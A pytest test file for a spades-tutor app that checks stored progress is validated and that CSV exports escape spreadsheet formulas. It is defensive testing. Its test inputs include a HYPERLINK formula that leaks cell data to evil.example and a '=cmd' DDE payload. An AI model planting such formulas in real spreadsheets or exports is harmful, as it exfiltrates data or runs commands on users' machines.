"""Stored progress comes back from the browser, where anything may have been written into it: every part
is checked, what is wrong is left out with a note, and the quiz, the CSV export and the next answer
keep working. The CSV the app writes never hands a spreadsheet a formula.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import math
import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as hst

import spades_tutor as st
from spades_tutor.session.export import FORMULA_STARTS, safe_cell
from spades_tutor.session.progress import LATEST_TIME, MAX_ANSWERS, Progress
from spades_tutor.session.settings import Settings
from spades_tutor.ui import errors
from spades_tutor.ui.app import App
from spades_tutor.ui.storage import MAX_STORED

FORMAT = "spades-tutor/progress"
GOOD_ROW = [1_700_000_000.5, "legal-plays", "jokers", "legal-plays:jokers:7", True]


def record(**parts: Any) -> str:
    """A stored progress record: a good one, with ``parts`` put in its place."""
    data: dict[str, Any] = {
        "format": FORMAT,
        "version": 1,
        "answers": [GOOD_ROW],
        "lessons": {"the-deck": 2},
        "settings": {"preset": "classic", "nil": False},
    }
    data.update(parts)
    return json.dumps(data)


def csv_rows(progress: Progress) -> list[list[str]]:
    return list(csv.reader(io.StringIO(progress.to_csv())))


def still_works(progress: Progress) -> None:
    """The quiz page's use of progress: the score, the CSV export, the next answer, saving."""
    assert progress.correct <= progress.answered <= MAX_ANSWERS
    assert progress.first_try + progress.second_try == progress.correct
    assert progress.settings.retries in (0, 1)
    rows = csv_rows(progress)
    assert rows[0] == ["time", "kind", "preset", "item", "correct", "source", "try"]
    assert len(rows) == progress.answered + 1
    progress.record("score", "jokers", "score:jokers:1", True)
    assert progress.streak >= 1 and csv_rows(progress)[-1][1:] == [
        "score",
        "jokers",
        "score:jokers:1",
        "yes",
        "quiz",
        "1",
    ]
    again = Progress.from_json(progress.to_json())
    assert again == progress and again.notes == []
    progress.settings.rules()  # the saved settings are a rule set the engine plays


# --- answer times ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "when", [1e300, math.inf, -math.inf, -1e20, math.nan, -1, LATEST_TIME + 1, 10**30, "1700000000", None, True, [1]]
)
def test_a_stored_answer_time_no_calendar_can_print_is_left_out_with_a_note(when: Any) -> None:
    stored = record(answers=[GOOD_ROW, [when, "score", "jokers", "score:jokers:2", False]])
    progress = Progress.from_json(stored)
    assert [a.item for a in progress.answers] == ["legal-plays:jokers:7"]
    assert progress.notes == ["1 saved answer could not be read and was left out."]
    assert csv_rows(progress)[1][0] == "2023-11-14 22:13:20"
    still_works(progress)


def test_the_issues_times_no_longer_lock_the_learner_out_of_the_quiz() -> None:
    text = '{"format": "spades-tutor/progress", "answers": [[1e300, "a", "b", "c", true], [Infinity, "a", "b", "c", true], [-1e20, "a", "b", "c", true], [NaN, "a", "b", "c", true]]}'
    app = App()
    try:
        app.store.value = text
        app.store.loaded = True
        app.nav.value = "Quiz yourself"
        assert app.error.children == ()
        assert "Score 0 / 0" in app.quiz.board.value
        assert "4 saved answers could not be read and were left out." in app.notes.children[0].children[0].value
        app.quiz.answered(app.quiz.item, app.quiz.item.check(app.quiz.item.answer()))  # as Check answer does
        assert "Score 1 / 1" in app.quiz.board.value
    finally:
        errors.remove_sink(app.show_error)


def test_a_time_made_in_the_kernel_that_no_calendar_prints_leaves_its_cell_blank() -> None:
    p = Progress()
    p.record("score", "jokers", "x", True, when=1e300)
    assert csv_rows(p)[1][0] == ""


# --- wrong shapes and types ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("parts", "note"),
    [
        ({"answers": {"0": GOOD_ROW}}, "The saved answers could not be read and were left out."),
        ({"answers": "junk"}, "The saved answers could not be read and were left out."),
        ({"answers": [GOOD_ROW, [1, "a", "b", "c"]]}, "1 saved answer could not be read and was left out."),
        ({"answers": [GOOD_ROW, [1, "", "b", "c", True]]}, "1 saved answer could not be read and was left out."),
        ({"answers": [GOOD_ROW, [1, "a", 2, "c", True]]}, "1 saved answer could not be read and was left out."),
        ({"answers": [GOOD_ROW, [1, "a", "b", "c", 1]]}, "1 saved answer could not be read and was left out."),
        ({"answers": [GOOD_ROW, [[[[]]]], {"a": 1}, None]}, "3 saved answers could not be read and were left out."),
        ({"answers": [GOOD_ROW, [*GOOD_ROW, "quiz", 3]]}, "1 saved answer could not be read and was left out."),
        ({"answers": [GOOD_ROW, [*GOOD_ROW, "quiz", True]]}, "1 saved answer could not be read and was left out."),
        ({"answers": [GOOD_ROW, [*GOOD_ROW, "quiz", 2.0]]}, "1 saved answer could not be read and was left out."),
        ({"answers": [GOOD_ROW, [*GOOD_ROW, "quiz", 2, 0]]}, "1 saved answer could not be read and was left out."),
        ({"lessons": [1, 2]}, "The lessons reached could not be read and were left out."),
        ({"lessons": {"the-deck": 2, "x": True}}, "Some lessons reached could not be read and were left out."),
        ({"lessons": {"the-deck": 2, "x": 10**40}}, "Some lessons reached could not be read and were left out."),
        ({"lessons": {"the-deck": 2, "../x": 1}}, "Some lessons reached could not be read and were left out."),
        ({"settings": []}, "The saved settings could not be read, so the usual ones are used."),
        (
            {"settings": {"preset": "classic", "nil": False, "mercy": "yes", "blind_nil": ["off"]}},
            "Some saved settings could not be read (mercy, blind nil), so the usual ones are used there.",
        ),
        (
            {"settings": {"preset": "classic", "nil": False, "retries": 2}},
            "Some saved settings could not be read (second try), so the usual ones are used there.",
        ),
        (
            {"settings": {"preset": "classic", "nil": False, "retries": False}},
            "Some saved settings could not be read (second try), so the usual ones are used there.",
        ),
        (
            {"settings": {"preset": "classic", "nil": False, "retries": "1"}},
            "Some saved settings could not be read (second try), so the usual ones are used there.",
        ),
    ],
)
def test_a_part_of_the_wrong_type_is_left_out_with_a_note_and_the_rest_kept(parts: dict[str, Any], note: str) -> None:
    progress = Progress.from_json(record(**parts))
    assert progress.notes == [note]
    if "answers" not in parts or isinstance(parts["answers"], list):
        assert progress.answers[0].item == "legal-plays:jokers:7"
    if "lessons" not in parts or isinstance(parts["lessons"], dict):
        assert progress.lessons == {"the-deck": 2}
    if isinstance(parts.get("settings"), dict) or "settings" not in parts:
        assert (progress.settings.preset, progress.settings.nil) == ("classic", False)
    still_works(progress)


@pytest.mark.parametrize(
    "text",
    [
        "not json",
        "[" * 100_000 + "]" * 100_000,  # nesting deeper than the parser recurses
        '{"format": "spades-tutor/progress", "answers": [' * 5000,
        "1" * 5000,  # more digits than int() reads
        "[]",
        '"spades-tutor/progress"',
        '{"format": "something else"}',
    ],
)
def test_a_record_that_cannot_be_read_starts_afresh_and_says_so(text: str) -> None:
    progress = Progress.from_json(text)
    assert progress == Progress()
    assert progress.notes == ["The progress saved in this browser could not be read, so it starts afresh."]
    still_works(progress)


def test_a_first_visit_has_no_note() -> None:
    assert Progress.from_json("").notes == []


def test_sizes_are_bounded() -> None:
    rows = [[1_700_000_000 + i, "score", "jokers", "x" * 500, i % 2 == 0] for i in range(3 * MAX_ANSWERS)]
    lessons = {f"lesson-{i}": 1 for i in range(1000)}
    progress = Progress.from_json(record(answers=rows, lessons=lessons))
    assert progress.answered == MAX_ANSWERS and progress.answers[-1].time == rows[-1][0]
    assert max(len(a.item) for a in progress.answers) == 120
    assert len(progress.lessons) == 200
    still_works(progress)


def test_a_second_try_is_stored_and_exported_and_an_older_answer_reads_as_a_first_try() -> None:
    p = Progress()
    p.record("score", "jokers", "score:jokers:1/1", True)
    p.record("score", "jokers", "score:jokers:2/1", True, attempt=2)
    p.record("score", "jokers", "score:jokers:3/1", False, attempt=2, source="lesson")
    assert (p.correct, p.answered, p.first_try, p.second_try) == (2, 3, 1, 1)
    again = Progress.from_json(p.to_json())
    assert again == p and [a.attempt for a in again.answers] == [1, 2, 2]
    assert [row[6] for row in csv_rows(p)] == ["try", "1", "2", "2"]
    # records saved before a second try was offered (five or six parts) are first tries
    old = Progress.from_json(record(answers=[GOOD_ROW, [*GOOD_ROW, "lesson"]]))
    assert [a.attempt for a in old.answers] == [1, 1] and old.notes == []
    assert [row[6] for row in csv_rows(old)[1:]] == ["1", "1"]
    with pytest.raises(ValueError, match="attempt"):
        p.record("score", "jokers", "x", True, attempt=3)


def test_a_lesson_end_review_answer_is_stored_exported_and_counted_apart() -> None:
    p = Progress()
    p.record("score", "jokers", "score:jokers:1/1", True)
    p.record("trick-winner", "jokers", "trick-winner:jokers:2/1", False, source="review")
    p.record("trick-winner", "jokers", "trick-winner:jokers:3/1", True, attempt=2, source="review")
    again = Progress.from_json(p.to_json())
    assert again == p and [a.source for a in again.answers] == ["quiz", "review", "review"]
    assert [row[5] for row in csv_rows(p)] == ["source", "quiz", "review", "review"]
    assert (p.only("review").answered, p.only("review").correct, p.only("quiz").answered) == (2, 1, 1)
    # a stored row naming a place the app has no such answers from is left out, and said so
    odd = Progress.from_json(record(answers=[[*GOOD_ROW, "revision", 1], [*GOOD_ROW, "review", 1]]))
    assert [a.source for a in odd.answers] == ["review"]
    assert odd.notes == ["1 saved answer could not be read and was left out."]
    with pytest.raises(ValueError, match="source"):
        p.record("score", "jokers", "x", True, source="Review")


def test_the_second_try_setting_is_kept_and_an_older_record_without_it_offers_one() -> None:
    assert Settings().retries == 1
    assert Progress.from_json(record(settings={"preset": "classic"})).settings.retries == 1
    p = Progress(settings=Settings(retries=0))
    again = Progress.from_json(p.to_json())
    assert again.settings.retries == 0 and again.notes == []


def test_settings_from_the_picker_are_read_without_notes() -> None:
    notes: list[str] = []
    s = Settings.from_data({"preset": "bicycle", "nil": True, "blind_nil": "always", "mercy": True}, notes)
    assert (s.preset, s.blind_nil, s.mercy, notes) == ("bicycle", "always", True, [])


# --- any stored value at all ---------------------------------------------------------------------

NUMBERS = hst.one_of(
    hst.integers(),
    hst.integers(min_value=-(10**400), max_value=10**400),
    hst.floats(allow_nan=True, allow_infinity=True),
    hst.sampled_from([0, -1, LATEST_TIME, LATEST_TIME + 1, 2**63, -(2**63), 1e300, -1e20]),
)
TEXTS = hst.one_of(hst.text(max_size=60), hst.sampled_from(["=1+1", "+1", "-1", "@SUM(A1)", "\t=x", "\r=x", ""]))
JUNK = hst.recursive(
    hst.none() | hst.booleans() | NUMBERS | TEXTS,
    lambda inner: hst.lists(inner, max_size=6) | hst.dictionaries(hst.text(max_size=10), inner, max_size=6),
    max_leaves=40,
)
ROWS = hst.one_of(
    hst.tuples(NUMBERS, TEXTS, TEXTS, TEXTS, hst.booleans()).map(list),
    hst.tuples(
        NUMBERS, TEXTS, TEXTS, TEXTS, hst.booleans(), hst.sampled_from(["quiz", "lesson", "review", "Review"]), JUNK
    ).map(list),
    hst.lists(JUNK, max_size=7),
    JUNK,
)
RECORDS = hst.fixed_dictionaries(
    {"format": hst.just(FORMAT) | JUNK},
    optional={
        "version": JUNK,
        "answers": hst.lists(ROWS, max_size=30) | JUNK,
        "lessons": hst.dictionaries(TEXTS, NUMBERS | JUNK, max_size=10) | JUNK,
        "settings": hst.fixed_dictionaries(
            {},
            optional={
                "preset": hst.sampled_from(st.Rules.preset_names()) | JUNK,
                "nil": JUNK,
                "blind_nil": hst.sampled_from(["off", "behind-100", "always"]) | JUNK,
                "mercy": JUNK,
                "four_colour": JUNK,
                "large": JUNK,
                "retries": hst.sampled_from([0, 1]) | JUNK,
            },
        )
        | JUNK,
    },
)


def _dumps(data: Any) -> str:
    try:
        return json.dumps(data)  # NaN and Infinity as the browser's JSON never writes them, but a person might
    except ValueError:  # an int past the digit limit
        return json.dumps(str(data))


@pytest.mark.slow
@settings(max_examples=250, deadline=None)
@given(RECORDS)
def test_any_stored_record_loads_exports_and_takes_the_next_answer(data: dict[str, Any]) -> None:
    progress = Progress.from_json(_dumps(data))
    still_works(progress)
    for cells in csv_rows(progress)[1:]:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
        if cells[0]:
            time.strptime(cells[0], "%Y-%m-%d %H:%M:%S")


@pytest.mark.slow
@settings(max_examples=200, deadline=None)
@given(hst.one_of(hst.text(max_size=300), JUNK.map(_dumps)))
def test_any_stored_text_loads_exports_and_takes_the_next_answer(text: str) -> None:
    still_works(Progress.from_json(text))


def test_the_store_refuses_a_value_larger_than_its_bound() -> None:
    app = App()
    try:
        app.store.value = record(answers=[GOOD_ROW] * (MAX_STORED // 60))
        assert app.store.value == ""
    finally:
        errors.remove_sink(app.show_error)


# --- CSV cells a spreadsheet would run -----------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_stored_text_that_starts_like_a_formula_is_exported_as_text(start: str) -> None:
    cell = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    progress = Progress.from_json(record(answers=[[1_700_000_000, cell, cell, cell, True]]))
    assert progress.answers[0].kind == cell[:40]
    row = csv_rows(progress)[1]
    assert row[1:4] == [safe_cell(cell[:40]), safe_cell(cell[:40]), safe_cell(cell[:120])]
    assert all(c.startswith("'" + start) for c in row[1:4])
    assert row[1][1:] == cell[:40]  # nothing else of the text changes


@pytest.mark.parametrize("start", FORMULA_STARTS)
@pytest.mark.parametrize("space", ["\n", " \r\n", " ", "  \n\t ", "\u00a0", "\u2003\n", "\x0b", "\x0c"])
def test_a_formula_after_leading_white_space_is_exported_as_text(space: str, start: str) -> None:
    """Spreadsheets and import tools skip leading spaces and line breaks: ``"\\n=1+1"`` is a formula too."""
    cell = f"{space}{start}1+1"
    assert safe_cell(cell) == "'" + cell
    progress = Progress.from_json(record(answers=[[1_700_000_000, "score", "jokers", cell, True]]))
    assert csv_rows(progress)[1][3] == "'" + cell  # the CSV keeps the text, quoted, behind the prefix


def test_plain_text_and_numbers_are_written_as_they_are() -> None:
    assert [safe_cell(v) for v in ("legal-plays", "score:jokers:3", "", -80, 1.5)] == [
        "legal-plays",
        "score:jokers:3",
        "",
        -80,
        1.5,
    ]


def test_the_joker_labs_csv_download_writes_text_cells_as_text_and_numbers_as_numbers() -> None:
    import pandas as pd

    from spades_tutor.ui.lab_page import LabPage

    page = LabPage()
    page.frames = {
        "trumps": pd.DataFrame({"rules": ["jokers", "=cmd|' /C calc'!A0"], "mean": [-1.5, 2.0], "n": [-3, 4]}),
        "-x": pd.DataFrame({"rules": ["@SUM(1)"], "mean": [0.5], "n": [1]}),
    }
    page._make_download()
    href = page.download.value.split("base64,", 1)[1].split('"', 1)[0]
    rows = list(csv.DictReader(io.StringIO(base64.b64decode(href).decode("utf-8"))))
    assert [r["rules"] for r in rows] == ["jokers", "'=cmd|' /C calc'!A0", "'@SUM(1)"]
    assert [r["experiment"] for r in rows] == ["trumps", "trumps", "'-x"]
    assert [r["mean"] for r in rows] == ["-1.5", "2.0", "0.5"] and [r["n"] for r in rows] == ["-3", "4", "1"]


def test_the_quiz_board_and_the_progress_page_count_one_streak_and_name_each_csv_for_what_it_holds() -> None:
    from spades_tutor.ui.pages.quiz import QUIZ_CSV
    from spades_tutor.ui.progress_page import EVERY_ANSWER_CSV, MASTERY_CSV, downloads_html, streaks_html

    app = App()
    try:
        app.store.loaded = True
        app.nav.value = "Quiz yourself"
        item = app.quiz.item
        # three right answers in a lesson, then one on the quiz page: a streak of four everywhere
        for n in range(3):
            app.progress.record(item.kind, item.rules.name, f"{item.key}-lesson-{n}", True, source="lesson")
        app.quiz.answered(item, item.check(item.answer()))
        board = app.quiz.board.value
        assert "Score 1 / 1 · streak 4 · best streak 4" in board
        assert "the score counts this page's questions; the streak every answer" in board
        assert '<th scope="row">Current streak</th><td>4</td>' in streaks_html(app.progress)
        # the quiz page's file holds its own answer; the Progress page's every answer, and each says so
        href = app.quiz.download.value.split("base64,", 1)[1].split('"', 1)[0]
        rows = base64.b64decode(href).decode().splitlines()
        assert f'download="{QUIZ_CSV}"' in app.quiz.download.value and len(rows) == 2
        downloads = downloads_html(app.progress)
        every = downloads.split(f'download="{EVERY_ANSWER_CSV}"', 1)[1].split("base64,", 1)[1].split('"', 1)[0]
        assert len(base64.b64decode(every).decode().splitlines()) == 5
        assert len({QUIZ_CSV, EVERY_ANSWER_CSV, MASTERY_CSV}) == 3 and f'download="{MASTERY_CSV}"' in downloads
    finally:
        errors.remove_sink(app.show_error)
